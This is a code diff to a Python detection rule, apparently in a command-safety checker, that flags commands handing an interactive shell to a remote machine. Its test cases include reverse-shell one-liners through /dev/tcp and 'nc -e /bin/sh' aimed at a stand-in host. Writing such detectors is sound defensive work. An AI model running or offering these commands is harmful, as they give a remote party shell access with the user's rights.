@@ -24,15 +24,19 @@ READS_SETTINGS = frozenset(
     reason="starts a shell, and connects it with another machine",
     why="Somebody else then types the commands, with your rights.",
     instead="use ssh, which asks who is there",
-    match=[("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw")],
-    not_match=["bash -i", "ssh x.example"],
+    match=[
+        ("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw"),
+        ("nc -e /bin/sh x.example 99", "network-connects", "execution-escape"),
+    ],
+    not_match=["bash -i", "ssh x.example", "ssh x.example bash", "nc x.example 99; bash"],
 )
 def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
     shell = next((e for e in effects if e.kind == "exec-code" and "interactive" in e.flags), None)
     if shell is None:
         return None
     raw = any(e.scope == "remote" and e.kind in ("write", "append", "read") for e in effects)
-    return shell if raw or any(e.kind == "listen" for e in effects) else None
+    handed = any(e.kind == "connect" and "unauthenticated" in e.flags and e.program in shell.via for e in effects)
+    return shell if raw or handed or any(e.kind == "listen" for e in effects) else None
 
 
 @line_rule(
